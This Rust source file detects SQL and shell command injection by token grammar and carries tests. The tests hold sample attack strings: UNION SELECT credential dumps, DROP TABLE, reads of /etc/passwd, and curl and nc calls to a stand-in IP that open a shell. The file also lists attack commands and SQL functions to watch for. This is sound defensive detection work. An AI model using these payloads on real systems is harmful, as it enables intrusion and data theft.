//! Injection told by its grammar, not by words: SQL as tokens after a value is closed, shell metacharacters followed by a command.

/// A SQL token, as far as telling injection needs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Tok<'a> {
    /// A quoted string (possibly unterminated).
    Str,
    Num,
    Word(&'a str),
    /// `=`, `<`, `>`, `!=`, `<>`, `<=`, `>=`.
    Compare,
    /// `||` or `&&`.
    Logic,
    /// Any other operator character.
    Op,
    /// `--`, `#` or `/*`.
    Comment,
    Open,
    Close,
    Comma,
    Semi,
}

/// Most tokens looked at in one value: an injection shows itself within its first few dozen.
const MOST_TOKENS: usize = 64;

fn tokens(text: &str) -> Vec<Tok<'_>> {
    let s = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < s.len() && out.len() < MOST_TOKENS {
        let c = s[i];
        let next = s.get(i + 1).copied();
        let tok = match c {
            b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c => {
                i += 1;
                continue;
            }
            b'\'' | b'"' | b'`' => {
                i += 1;
                while i < s.len() && s[i] != c {
                    i += if s[i] == b'\\' { 2 } else { 1 };
                }
                i += 1;
                out.push(Tok::Str);
                continue;
            }
            b'0'..=b'9' => {
                while i < s.len() && (s[i].is_ascii_alphanumeric() || s[i] == b'.') {
                    i += 1;
                }
                out.push(Tok::Num);
                continue;
            }
            c if c.is_ascii_alphabetic() || c == b'_' || c == b'@' || c == b'$' || c >= 0x80 => {
                let start = i;
                while i < s.len()
                    && (s[i].is_ascii_alphanumeric() || matches!(s[i], b'_' | b'@' | b'$' | b'.') || s[i] >= 0x80)
                {
                    i += 1;
                }
                out.push(Tok::Word(&text[start..i]));
                continue;
            }
            b'-' if next == Some(b'-') => (Tok::Comment, s.len() - i),
            b'#' => (Tok::Comment, s.len() - i),
            // A closed inline comment is a space to SQL (`UNION/**/SELECT`); MySQL runs what a
            // `/*!` comment holds, so only its marks are skipped.
            b'/' if next == Some(b'*') => match text[i + 2..].find("*/") {
                Some(_) if s.get(i + 2) == Some(&b'!') => {
                    i += 3;
                    while i < s.len() && s[i].is_ascii_digit() {
                        i += 1;
                    }
                    continue;
                }
                Some(end) => {
                    i += 2 + end + 2;
                    continue;
                }
                None => (Tok::Comment, s.len() - i),
            },
            b'*' if next == Some(b'/') => {
                i += 2;
                continue;
            }
            b'|' if next == Some(b'|') => (Tok::Logic, 2),
            b'&' if next == Some(b'&') => (Tok::Logic, 2),
            b'!' | b'<' | b'>' if next == Some(b'=') || (c == b'<' && next == Some(b'>')) => (Tok::Compare, 2),
            b'=' | b'<' | b'>' => (Tok::Compare, 1),
            b'(' => (Tok::Open, 1),
            b')' => (Tok::Close, 1),
            b',' => (Tok::Comma, 1),
            b';' => (Tok::Semi, 1),
            _ => (Tok::Op, 1),
        };
        out.push(tok.0);
        i += tok.1;
    }
    out
}

fn is(t: Option<&Tok<'_>>, words: &[&str]) -> bool {
    matches!(t, Some(Tok::Word(w)) if words.iter().any(|k| w.eq_ignore_ascii_case(k)))
}

/// Functions an injection calls to wait, read files or leak through errors.
const FUNCTIONS: &[&str] =
    &["sleep", "benchmark", "pg_sleep", "load_file", "extractvalue", "updatexml", "dbms_pipe.receive_message"];
const STATEMENTS: &[&str] = &[
    "select", "insert", "update", "delete", "drop", "exec", "execute", "shutdown", "declare", "create", "alter",
    "truncate", "waitfor",
];

/// `UNION [ALL|DISTINCT] SELECT` at `t`.
fn union_select(t: &[Tok<'_>]) -> bool {
    is(t.first(), &["union"])
        && (is(t.get(1), &["select"]) || (is(t.get(1), &["all", "distinct"]) && is(t.get(2), &["select"])))
}

/// A known function called at `t`.
fn call(t: &[Tok<'_>]) -> bool {
    is(t.first(), FUNCTIONS) && t.get(1) == Some(&Tok::Open)
}

/// What follows a closed value in an injection: a logical operator and a condition, a union, a
/// stacked statement, a comment that cuts the rest of the query off, a function call, an ordering.
fn injection_after_close(t: &[Tok<'_>], quoted: bool) -> Option<&'static str> {
    let first = t.first()?;
    if *first == Tok::Comment {
        return Some("a value closed, then a comment");
    }
    if union_select(t) {
        return Some("a value closed, then UNION SELECT");
    }
    if *first == Tok::Semi && is(t.get(1), STATEMENTS) {
        return Some("a value closed, then a stacked statement");
    }
    if call(t) || (matches!(first, Tok::Op | Tok::Logic) && call(&t[1..])) {
        return Some("a value closed, then a function call");
    }
    if is(Some(first), &["order", "group"]) && is(t.get(1), &["by"]) && t.get(2) == Some(&Tok::Num) {
        return Some("a value closed, then ORDER BY a column number");
    }
    if *first == Tok::Logic || is(Some(first), &["or", "and", "xor", "having", "not"]) {
        let rest = &t[1..];
        let rest = &rest[rest.iter().position(|t| *t != Tok::Open).unwrap_or(rest.len())..];
        if call(rest) {
            return Some("a value closed, then a condition calling a function");
        }
        let operand = |t: Option<&Tok<'_>>| matches!(t, Some(Tok::Num | Tok::Str | Tok::Word(_)));
        if operand(rest.first())
            && (rest.get(1) == Some(&Tok::Compare) || is(rest.get(1), &["like", "is", "in", "between", "regexp"]))
        {
            return Some("a value closed, then an always-true condition");
        }
        // `' OR 1` ends the query where the string ended; after a number (`2 or 3`) that reads
        // as words unless a comment cuts the rest off.
        let ended =
            if quoted { matches!(rest.get(1), None | Some(Tok::Comment)) } else { rest.get(1) == Some(&Tok::Comment) };
        if matches!(rest.first(), Some(Tok::Num | Tok::Str)) && ended {
            return Some("a value closed, then an always-true condition");
        }
    }
    None
}

/// Bytes that can open or close a SQL context; a value with none of them, that starts with no
/// digit, and holds no `union` or known function is no injection, and is not tokenized.
fn worth_tokenizing(v: &str) -> bool {
    let b = v.as_bytes();
    b.first().is_some_and(u8::is_ascii_digit)
        || b.iter().any(|c| matches!(c, b'\'' | b'"' | b'`' | b'(' | b';'))
        || b.windows(5).any(|w| w.eq_ignore_ascii_case(b"union"))
}

/// Why `value` (decoded) reads as SQL injection, if it does: a quote or a number that closes the
/// value the application put it in, followed by SQL (an operator and condition, `UNION SELECT`, a
/// stacked statement, a comment, a function); or `UNION SELECT … FROM` or a known function's call
/// anywhere. Words alone (`select chairs`, `drop table tennis`, `o'reilly books`) are no injection.
pub fn sql_injection(value: &str) -> Option<&'static str> {
    if !worth_tokenizing(value) {
        return None;
    }
    // The value closed by its first quote (a string context).
    if let Some(q) = value.find(['\'', '"', '`']) {
        let t = tokens(&value[q + 1..]);
        let after = t.iter().position(|t| *t != Tok::Close).unwrap_or(t.len());
        if let Some(why) = injection_after_close(&t[after..], true) {
            return Some(why);
        }
    }
    let t = tokens(value);
    // A number that ends a numeric context.
    let start = usize::from(t.first() == Some(&Tok::Op));
    if t.get(start) == Some(&Tok::Num) {
        let after = t[start + 1..].iter().position(|t| *t != Tok::Close).map_or(t.len(), |p| start + 1 + p);
        let rest = &t[after..];
        // A number and a comment (`5--`) is too little to tell.
        if rest.first() != Some(&Tok::Comment) {
            if let Some(why) = injection_after_close(rest, false) {
                return Some(why);
            }
        }
    }
    // Anywhere: a union of a selection from a table, or a known function called with arguments.
    for rest in (0..t.len()).map(|i| &t[i..]) {
        if union_select(rest) && rest.iter().any(|t| is(Some(t), &["from"])) {
            return Some("UNION SELECT … FROM");
        }
        if call(rest) && matches!(rest.get(2), Some(Tok::Num | Tok::Str | Tok::Word(_))) {
            return Some("a known SQL function called");
        }
    }
    None
}

/// Commands an injected shell runs to look around, fetch a payload or open a shell.
const COMMANDS: &[&str] = &[
    "cat",
    "ls",
    "id",
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "python",
    "python3",
    "perl",
    "php",
    "ruby",
    "ping",
    "echo",
    "rm",
    "chmod",
    "sleep",
    "nslookup",
    "ifconfig",
    "busybox",
    "telnet",
    "powershell",
    "cmd",
    "tftp",
];

/// Why `value` (decoded) reads as command injection, if it does: a shell metacharacter (`;`, `|`,
/// `&`, a newline, `` ` ``, `$(`) followed by a known command and then nothing, or an argument that
/// looks like one (a path, an option, an address, a variable). `cats | dogs` and `tom & jerry; cat
/// toys` are words.
pub fn command_injection(value: &str) -> Option<&'static str> {
    let b = value.as_bytes();
    if !b.iter().any(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'`' | b'$')) {
        return None;
    }
    let mut i = 0;
    while i < b.len() {
        let substitution = b[i] == b'`' || (b[i] == b'$' && b.get(i + 1) == Some(&b'('));
        if !(substitution || matches!(b[i], b';' | b'|' | b'&' | b'\n')) {
            i += 1;
            continue;
        }
        let mut j = i + if b[i] == b'$' { 2 } else { 1 };
        while j < b.len() && matches!(b[j], b' ' | b'\t' | b'|' | b'&') {
            j += 1;
        }
        let start = j;
        while j < b.len() && (b[j].is_ascii_alphanumeric() || matches!(b[j], b'/' | b'.' | b'_' | b'-')) {
            j += 1;
        }
        let word = &value[start..j];
        let command = word.rsplit('/').next().unwrap_or(word);
        if COMMANDS.iter().any(|c| c.eq_ignore_ascii_case(command)) {
            let mut k = j;
            while k < b.len() && b[k] == b' ' {
                k += 1;
            }
            let argument = b.get(k).copied();
            let ends = argument.is_none() || matches!(argument, Some(b'`' | b')' | b';' | b'|' | b'&' | b'\n'));
            let looks_like_one =
                k > j && matches!(argument, Some(b'/' | b'-' | b'$' | b'.' | b'~' | b'\'' | b'"' | b'0'..=b'9'));
            if ends || looks_like_one || substitution {
                return Some("a shell metacharacter, then a command");
            }
        }
        i += 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sql_injection_by_its_grammar() {
        for attack in [
            "1 UNION SELECT username,password FROM users--",
            "x' UNION SELECT username, password FROM users--",
            "5' OR 1=1--",
            "' or 'a'='a",
            "admin'--",
            "1) OR (1=1",
            "1 AND SLEEP(5)",
            "1' AND sleep(5)#",
            "'; DROP TABLE users--",
            "1 ORDER BY 3--",
            "x\" or 1 --",
            "1 or 1--",
            "-1 union all select null,null",
            "benchmark(1000000,md5(1))",
            "' || pg_sleep(10)--",
            "1/**/UNION/**/SELECT/**/password/**/FROM/**/users",
            "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2--",
            "x'/**/or/**/1=1#",
        ] {
            assert!(sql_injection(attack).is_some(), "{attack:?} not seen");
        }
        for words in [
            "select chairs",
            "union jack",
            "drop table tennis",
            "o'reilly books",
            "rock & roll",
            "1 or 2 bedrooms",
            "2 or 3",
            "sleep apnea pillow",
            "50% off",
            "\"select all\" button",
            "order by price",
            "and or not",
            "it's a 1=1 match",
            "rock 'n' roll",
            "2",
            "page-2",
            "the union select committee",
            "don't stop",
            "42 is the answer",
            "10-15 years",
        ] {
            assert_eq!(sql_injection(words), None, "{words:?}");
        }
    }

    #[test]
    fn command_injection_is_a_metacharacter_then_a_command() {
        for attack in [
            "127.0.0.1;cat /etc/passwd",
            "x | id",
            "a && whoami",
            "$(curl http://198.51.100.9/x)",
            "`id`",
            "1; /bin/sh -i",
            "x|nc 198.51.100.9 4444",
            "y;sleep 5",
        ] {
            assert!(command_injection(attack).is_some(), "{attack:?} not seen");
        }
        for words in ["cats | dogs", "tom & jerry; cat toys", "rock & roll", "ls & co", "price $5", "a;b"] {
            assert_eq!(command_injection(words), None, "{words:?}");
        }
    }
}
